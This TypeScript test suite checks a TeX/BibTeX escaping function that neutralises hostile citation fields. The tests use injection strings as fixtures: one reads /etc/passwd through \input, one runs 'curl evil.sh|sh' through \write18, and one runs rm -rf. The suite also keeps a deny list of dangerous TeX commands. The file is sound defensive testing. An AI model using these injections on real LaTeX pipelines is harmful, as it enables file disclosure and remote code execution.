import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { bibtexField, buildBibtex } from './cite-format';
import { texSafe } from './tex-safe';

// The hostile pass's authors (issue 9 review): a verified record whose unsigned authors_text tries to
// read a file, run the shell, comment out the line and escape the closing brace.
const HOSTILE_AUTHORS = 'Mallory \\input{/etc/passwd}, Eve \\immediate\\write18{curl evil.sh|sh}, Trudy 100% evil # x, Oscar\\';

/** Commands left in TeX text: `\name` not written as \textbackslash{}name. */
function commands(tex: string): string[] {
  return [...tex.replace(/\\textbackslash\{\}/g, ' ').matchAll(/\\([A-Za-z@]+|.)/g)].map((m) => m[1]!);
}

describe('texSafe: BibTeX values that are safe to compile', () => {
  it('turns file, shell and definition commands into text, in bound values too', () => {
    expect(texSafe('A \\input{/etc/passwd} B', true)).toBe('A \\textbackslash{}input{/etc/passwd} B');
    expect(texSafe('\\immediate\\write18{rm -rf}', true)).toBe('\\textbackslash{}immediate\\textbackslash{}write18{rm -rf}');
    // Any other macro stays in a bound title (it may be math): undefined, it is a compile error, not a danger.
    expect(texSafe('\\def\\x{y}', true)).toBe('\\textbackslash{}def\\x{y}');
  });
  it('keeps the TeX a signed title holds: math and accents', () => {
    expect(texSafe('On $\\alpha$-stable laws for J{\\"o}rg', true)).toBe('On $\\alpha$-stable laws for J{\\"o}rg');
    expect(texSafe('Q&A at 50% #1', true)).toBe('Q\\&A at 50\\% \\#1');
    expect(texSafe('already \\& \\% \\#', true)).toBe('already \\& \\% \\#');
  });
  it('keeps only a name\'s TeX in an unbound value', () => {
    expect(texSafe('J{\\"o}rg M\\"uller, Fran\\c{c}ois, \\AA{}sa, G\\\'{e}rard', false)).toBe('J{\\"o}rg M\\"uller, Fran\\c{c}ois, \\AA{}sa, G\\\'{e}rard');
    expect(texSafe('$\\alpha$ \\textbf{x} a_b c^d \\\\', false)).toBe('\\$\\textbackslash{}alpha\\$ \\textbackslash{}textbf{x} a\\_b c\\^{}d \\textbackslash{}\\textbackslash{}');
  });
  it('escaped braces and a trailing backslash cannot close the field in LaTeX while BibTeX counts it open', () => {
    expect(texSafe('A\\}, B', false)).toBe('A\\textbraceright{}, B');
    expect(texSafe('Oscar\\', false)).toBe('Oscar\\textbackslash{}');
  });
  it('the hostile authors become one harmless field', () => {
    const bib = buildBibtex({ suffix: null, pithNumber: null, title: 'T', authorsText: HOSTILE_AUTHORS, submittedAt: null, arxivId: null, primaryClass: null, unbound: ['authors'] });
    const author = /author = \{(.*)\},?\n/.exec(bib)![1]!;
    expect(commands(author).filter((c) => !['%', '#'].includes(c))).toEqual([]);
    expect(author).toContain('100\\% evil \\# x');
    expect(author.endsWith('Oscar\\textbackslash{}')).toBe(true);
    expect(bib.match(/@misc\{/g)).toHaveLength(1);
  });
});

function braceDepths(tex: string, latex: boolean): { min: number; end: number } {
  let depth = 0;
  let min = 0;
  for (let i = 0; i < tex.length; i++) {
    if (latex && tex[i] === '\\') {
      i += 1;
      continue;
    }
    if (tex[i] === '{') depth++;
    else if (tex[i] === '}') min = Math.min(min, --depth);
  }
  return { min, end: depth };
}

describe('Python whitespace in cited values', () => {
  it('U+001C–U+001F and U+0085 separate words as the canonical rule reads them, so they are cited as spaces', () => {
    expect(bibtexField('A\u001cB\u001fC\u0085D')).toBe('A B C D');
  });
});

describe('bibtexField: properties over any string', () => {
  const NAME = new Set(['"', "'", '`', '^', '~', '=', '.', 'u', 'v', 'H', 'c', 'd', 'b', 't', 'k', 'r', 'ss', 'o', 'O', 'l', 'L', 'ae', 'AE', 'oe', 'OE', 'aa', 'AA', 'i', 'j', 'relax', '&', '%', '#', '$', '_', ' ']);
  const texish = fc.string({ unit: fc.constantFrom('\\', '{', '}', '%', '#', '&', '$', '_', '^', 'a', 'input', 'write', 'def', ' ', '"', 'o', '\n'), maxLength: 40 });
  it('braces balance, no bare % # &, nothing ends in a lone backslash, and unbound text keeps only name commands', () => {
    fc.assert(
      fc.property(texish, fc.boolean(), (v, bound) => {
        const out = bibtexField(v, bound);
        // Balanced as BibTeX counts (every brace character) and as LaTeX does (a backslash and the
        // character after it are one token, so \\} is a line break and a brace, \} no brace at all).
        expect(braceDepths(out, false)).toEqual({ min: 0, end: 0 });
        expect(braceDepths(out, true)).toEqual({ min: 0, end: 0 });
        expect(out).not.toMatch(/(^|[^\\])[%#&]/);
        expect(out).not.toMatch(/(^|[^\\])(\\\\)*\\$/);
        for (const c of commands(out)) {
          expect(['input', 'write', 'def', 'immediate']).not.toContain(c);
          if (!bound) expect(NAME.has(c) || c === 'textbraceleft' || c === 'textbraceright' || c === '^').toBe(true);
        }
      }),
      { numRuns: 2000 },
    );
  });
});
